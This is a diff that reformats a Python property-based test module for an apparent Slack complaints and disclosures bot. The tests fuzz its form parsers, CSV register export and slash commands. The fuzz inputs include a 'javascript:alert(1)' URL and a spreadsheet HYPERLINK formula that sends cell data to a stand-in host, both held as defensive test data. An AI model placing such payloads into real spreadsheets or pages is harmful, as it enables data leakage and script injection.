@@ -10,21 +10,31 @@ from __future__ import annotations
 import io
 import json
 import logging
-from datetime import date, datetime, timezone
+from datetime import UTC, date, datetime
 from types import SimpleNamespace
 from zoneinfo import ZoneInfo
 
 import pytest
-from hypothesis import HealthCheck, given, settings, strategies as st
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 from sqlalchemy import func, select
 
 from bot.complaints import service as complaints
-from bot.disclosures import service as disclosures
 from bot.core import ids
-from bot.records import register
-from bot.core.vocabulary import (AckStatus, Category, DisclosedVia, DisclosureKind, OmbudsmanPoint, Outcome, ReceivedVia,
-                        Severity, UpdateVia)
 from bot.core.errors import FieldErrors
+from bot.core.vocabulary import (
+    AckStatus,
+    Category,
+    DisclosedVia,
+    DisclosureKind,
+    OmbudsmanPoint,
+    Outcome,
+    ReceivedVia,
+    Severity,
+    UpdateVia,
+)
+from bot.disclosures import service as disclosures
+from bot.records import register
 from handlers.commands import UNEXPECTED
 from storage.models import Complaint, Disclosure, Event, Notification
 from tests.e2e import validate_message
@@ -36,18 +46,71 @@ TODAY = date(2026, 11, 23)
 # What a person can put in a field: nothing, blank, any text (long, unicode, markup, control
 # characters, lone surrogates, what a spreadsheet runs as a formula), near-valid values (an enum
 # member, a date, digits) and values that only look valid.
-ENUM_VALUES = [m.value for e in (Category, ReceivedVia, Severity, UpdateVia, Outcome, OmbudsmanPoint,
-                                 DisclosureKind, DisclosedVia, AckStatus) for m in e]
+ENUM_VALUES = [
+    m.value
+    for e in (
+        Category,
+        ReceivedVia,
+        Severity,
+        UpdateVia,
+        Outcome,
+        OmbudsmanPoint,
+        DisclosureKind,
+        DisclosedVia,
+        AckStatus,
+    )
+    for m in e
+]
 field_value = st.one_of(
     st.none(),
-    st.sampled_from(["", " ", "\n", "0", "-1", "1", "3", "91", "9" * 30, "2026-02-30", "2026-13-01", "23/11/2026",
-                     "<!channel>", "*bold* `code`", "https://example.com/doc", "javascript:alert(1)", "U0123ABC",
-                     ",".join(p.value for p in OmbudsmanPoint), "available,,six_months,bogus"]),
+    st.sampled_from(
+        [
+            "",
+            " ",
+            "\n",
+            "0",
+            "-1",
+            "1",
+            "3",
+            "91",
+            "9" * 30,
+            "2026-02-30",
+            "2026-13-01",
+            "23/11/2026",
+            "<!channel>",
+            "*bold* `code`",
+            "https://example.com/doc",
+            "javascript:alert(1)",
+            "U0123ABC",
+            ",".join(p.value for p in OmbudsmanPoint),
+            "available,,six_months,bogus",
+        ]
+    ),
     st.sampled_from(ENUM_VALUES),
     st.dates(min_value=date(1, 1, 1), max_value=date(9999, 12, 31)).map(date.isoformat),
-    st.sampled_from(["a\x00b", "\x00", "x\ud800y", "\udfff", "caf\udce9", "\x1b[2Jcleared", "del\x7f", "next\x85line",
-                     "line\r\nline", "\r", "tab\tand\nnewline", "\t\tindented\n", "=HYPERLINK(\"https://x.example/?\"&B2)",
-                     "+44 20 7946 0000", "-", "@SUM(1)", "'=1+1", "''-x", " '@ x "]),
+    st.sampled_from(
+        [
+            "a\x00b",
+            "\x00",
+            "x\ud800y",
+            "\udfff",
+            "caf\udce9",
+            "\x1b[2Jcleared",
+            "del\x7f",
+            "next\x85line",
+            "line\r\nline",
+            "\r",
+            "tab\tand\nnewline",
+            "\t\tindented\n",
+            '=HYPERLINK("https://x.example/?"&B2)',
+            "+44 20 7946 0000",
+            "-",
+            "@SUM(1)",
+            "'=1+1",
+            "''-x",
+            " '@ x ",
+        ]
+    ),
     st.text(max_size=40),
     # Letters, spaces and punctuation among control characters (C0 and C1) and surrogates.
     st.text(max_size=40, alphabet=st.characters(categories=("Cc", "Cs", "Ll", "Lu", "Nd", "Zs", "Po", "Sm"))),
@@ -68,9 +131,17 @@ def values_for(draw, valid: dict):
     return values
 
 
-DISCLOSURE_VALUES = {"client_name": "Jane Client", "matter_ref": "M-1001", "kind": "costs_estimate",
-                     "content": "Estimate £12,000 plus VAT.", "disclosed_on": "2026-11-20", "disclosed_via": "email",
-                     "ack_status": "pending", "follow_up_on": None, "document_url": None}
+DISCLOSURE_VALUES = {
+    "client_name": "Jane Client",
+    "matter_ref": "M-1001",
+    "kind": "costs_estimate",
+    "content": "Estimate £12,000 plus VAT.",
+    "disclosed_on": "2026-11-20",
+    "disclosed_via": "email",
+    "ack_status": "pending",
+    "follow_up_on": None,
+    "document_url": None,
+}
 
 
 def _fields(cls) -> list[str]:
@@ -83,13 +154,21 @@ PARSERS = {
     "update": (lambda v: complaints.parse_client_update(v, today=TODAY), update_values(), complaints.ClientUpdateInput),
     "snooze": (complaints.parse_snooze, snooze_values(), complaints.SnoozeInput),
     "resolve": (lambda v: complaints.parse_resolution(v, today=TODAY), resolution_values(), complaints.ResolutionInput),
-    "disclosure": (lambda v: disclosures.parse_disclosure(v, today=TODAY), DISCLOSURE_VALUES, disclosures.NewDisclosure),
+    "disclosure": (
+        lambda v: disclosures.parse_disclosure(v, today=TODAY),
+        DISCLOSURE_VALUES,
+        disclosures.NewDisclosure,
+    ),
 }
 # Where each modal's free text goes in the register: its own column, or (text the register does not
 # hold) a column that takes at least as much. (parsed value's attribute, register column)
 IN_REGISTER = {
-    "intake": [("client_name", "client_name"), ("matter_ref", "matter_ref"), ("summary", "summary"),
-               ("client_request", "client_request")],
+    "intake": [
+        ("client_name", "client_name"),
+        ("matter_ref", "matter_ref"),
+        ("summary", "summary"),
+        ("client_request", "client_request"),
+    ],
     "triage": [("note", "summary")],
     "update": [("told", "summary"), ("next_step", "summary")],
     "snooze": [("reason", "summary")],
@@ -97,13 +176,22 @@ IN_REGISTER = {
     "disclosure": [("client_name", "client_name"), ("matter_ref", "matter_ref"), ("content", "summary")],
 }
 LONDON = ZoneInfo("Europe/London")
-READING = register.Reading(now=datetime(2026, 11, 23, 9, 30, tzinfo=timezone.utc), tz=LONDON)
+READING = register.Reading(now=datetime(2026, 11, 23, 9, 30, tzinfo=UTC), tz=LONDON)
 # A resolved complaint as the export reads it from the store, by store column.
-STORED = {name: None for name in register.store_columns(register.COLUMNS)} | {
-    "reference": "CMP-2026-0001", "status": "resolved", "received_on": date(2026, 11, 2), "received_via": "email",
-    "client_name": "Jane Client", "category": "delay", "summary": "Bill too high.", "reporter_id": "UREPORTER",
-    "logged_at": datetime(2026, 11, 2, 10, tzinfo=timezone.utc), "client_update_count": 0,
-    "resolved_at": datetime(2026, 11, 20, 10, tzinfo=timezone.utc), "outcome": "upheld", "ombudsman_rights_given": True,
+STORED = dict.fromkeys(register.store_columns(register.COLUMNS)) | {
+    "reference": "CMP-2026-0001",
+    "status": "resolved",
+    "received_on": date(2026, 11, 2),
+    "received_via": "email",
+    "client_name": "Jane Client",
+    "category": "delay",
+    "summary": "Bill too high.",
+    "reporter_id": "UREPORTER",
+    "logged_at": datetime(2026, 11, 2, 10, tzinfo=UTC),
+    "client_update_count": 0,
+    "resolved_at": datetime(2026, 11, 20, 10, tzinfo=UTC),
+    "outcome": "upheld",
+    "ombudsman_rights_given": True,
 }
 
 
@@ -114,14 +202,22 @@ def round_trip(name: str, result) -> None:
         if value is None:
             continue
         out = io.StringIO(newline="")
-        register.write_csv(out, register.COLUMNS, [SimpleNamespace(**(STORED | {register.BY_NAME[column].store: value}))], LONDON)
+        register.write_csv(
+            out, register.COLUMNS, [SimpleNamespace(**(STORED | {register.BY_NAME[column].store: value}))], LONDON
+        )
         parsed = register.read_register(io.StringIO(out.getvalue(), newline=""), reading=READING)
         assert [str(r) for r in parsed.rejections] == [], (attribute, value)
         assert parsed.rows[0].values[column] == value, (attribute, value)
 
 
-FIELD_CLASSES = {"intake": ids.IntakeField, "triage": ids.TriageField, "update": ids.UpdateField, "snooze": ids.SnoozeField,
-                 "resolve": ids.ResolveField, "disclosure": ids.DisclosureField}
+FIELD_CLASSES = {
+    "intake": ids.IntakeField,
+    "triage": ids.TriageField,
+    "update": ids.UpdateField,
+    "snooze": ids.SnoozeField,
+    "resolve": ids.ResolveField,
+    "disclosure": ids.DisclosureField,
+}
 
 
 @pytest.mark.parametrize("name", list(PARSERS))
@@ -158,12 +254,23 @@ STORABLE = st.characters(exclude_categories=("Cc", "Cs"), include_characters="\n
 
 def test_resolution_parser_accepts_a_generated_valid_resolution():
     @settings(max_examples=300, derandomize=True, deadline=None)
-    @given(outcome=st.sampled_from(list(Outcome)), root=st.sampled_from(list(Category)),
-           sent=st.dates(max_value=TODAY), remedy=st.one_of(st.none(), st.text(max_size=3000, alphabet=STORABLE)))
+    @given(
+        outcome=st.sampled_from(list(Outcome)),
+        root=st.sampled_from(list(Category)),
+        sent=st.dates(max_value=TODAY),
+        remedy=st.one_of(st.none(), st.text(max_size=3000, alphabet=STORABLE)),
+    )
     def check(outcome, root, sent, remedy):
         result = complaints.parse_resolution(
-            {"outcome": outcome.value, "root_cause": root.value, "final_response_sent_on": sent.isoformat(),
-             "ombudsman": ",".join(p.value for p in OmbudsmanPoint), "remedy": remedy}, today=TODAY)
+            {
+                "outcome": outcome.value,
+                "root_cause": root.value,
+                "final_response_sent_on": sent.isoformat(),
+                "ombudsman": ",".join(p.value for p in OmbudsmanPoint),
+                "remedy": remedy,
+            },
+            today=TODAY,
+        )
         assert result.outcome == outcome and result.final_response_sent_on == sent and result.ombudsman_rights_given
         assert result.remedy == ((remedy or "").strip() or None)
         round_trip("resolve", result)
@@ -176,7 +283,10 @@ def test_resolution_parser_accepts_a_generated_valid_resolution():
 
 def _counts(ctx) -> tuple[int, ...]:
     with ctx.session_factory() as s:
-        return tuple(s.execute(select(func.count()).select_from(m)).scalar_one() for m in (Complaint, Disclosure, Event, Notification))
+        return tuple(
+            s.execute(select(func.count()).select_from(m)).scalar_one()
+            for m in (Complaint, Disclosure, Event, Notification)
+        )
 
 
 def _state(view_blocks: list[dict], values: dict) -> dict:
@@ -188,15 +298,23 @@ def _state(view_blocks: list[dict], values: dict) -> dict:
         element, value = block["element"], values.get(block["block_id"])
         kind = element["type"]
         if kind in ("static_select",):
-            entry = {"type": kind, "selected_option": None if value is None else
-                     {"text": {"type": "plain_text", "text": "x"}, "value": value}}
+            entry = {
+                "type": kind,
+                "selected_option": None
+                if value is None
+                else {"text": {"type": "plain_text", "text": "x"}, "value": value},
+            }
         elif kind == "datepicker":
             entry = {"type": kind, "selected_date": value}
         elif kind == "users_select":
             entry = {"type": kind, "selected_user": value}
         elif kind == "checkboxes":
-            entry = {"type": kind, "selected_options": [{"text": {"type": "plain_text", "text": "x"}, "value": v}
-                                                        for v in (value or "").split(",") if v]}
+            entry = {
+                "type": kind,
+                "selected_options": [
+                    {"text": {"type": "plain_text", "text": "x"}, "value": v} for v in (value or "").split(",") if v
+                ],
+            }
         else:
             entry = {"type": kind, "value": value}
         state[block["block_id"]] = {element["action_id"]: entry}
@@ -215,13 +333,24 @@ def test_generated_submissions_store_one_record_or_nothing(live, form, caplog):
     assert set(valid) == set(fields)
     seen = {"stored": 0, "refused": 0}
 
-    @settings(max_examples=120, derandomize=True, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+    @settings(
+        max_examples=120, derandomize=True, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+    )
     @given(values_for(valid))
     def check(values):
         before = _counts(ctx)
         view = {**modal, "id": f"V{sum(seen.values())}", "state": {"values": _state(modal["blocks"], values)}}
-        r = slack.post_payload({"type": "view_submission", "user": {"id": "UFUZZ"}, "team": {"id": "T0001"},
-                                "api_app_id": "A0001", "token": "legacy", "trigger_id": "1.2", "view": view})
+        r = slack.post_payload(
+            {
+                "type": "view_submission",
+                "user": {"id": "UFUZZ"},
+                "team": {"id": "T0001"},
+                "api_app_id": "A0001",
+                "token": "legacy",
+                "trigger_id": "1.2",
+                "view": view,
+            }
+        )
         assert r.status == 200
         bot.wait_idle()
         after = _counts(ctx)
@@ -242,9 +371,10 @@ def test_generated_submissions_store_one_record_or_nothing(live, form, caplog):
 
 command_text = st.one_of(
     st.text(max_size=60),
-    st.tuples(st.sampled_from(["show", "list", "matter", "reopen", "resolve", "hold", "release", "help", "new", "SHOW"]),
-              st.one_of(st.just(""), st.text(max_size=30), st.from_regex(r"CMP-[0-9]{1,5}-[0-9]{0,6}", fullmatch=True)))
-    .map(" ".join),
+    st.tuples(
+        st.sampled_from(["show", "list", "matter", "reopen", "resolve", "hold", "release", "help", "new", "SHOW"]),
+        st.one_of(st.just(""), st.text(max_size=30), st.from_regex(r"CMP-[0-9]{1,5}-[0-9]{0,6}", fullmatch=True)),
+    ).map(" ".join),
 )
 
 
@@ -252,7 +382,9 @@ def test_generated_slash_commands_always_get_a_clear_private_answer(live, slack_
     bot, slack, ctx = live
     calls = {"n": 0}
 
-    @settings(max_examples=150, derandomize=True, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+    @settings(
+        max_examples=150, derandomize=True, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+    )
     @given(command_text, st.sampled_from(["/complaint", "/disclosure"]))
     def check(text, command):
         before = len(slack_double.calls_to("response_url"))
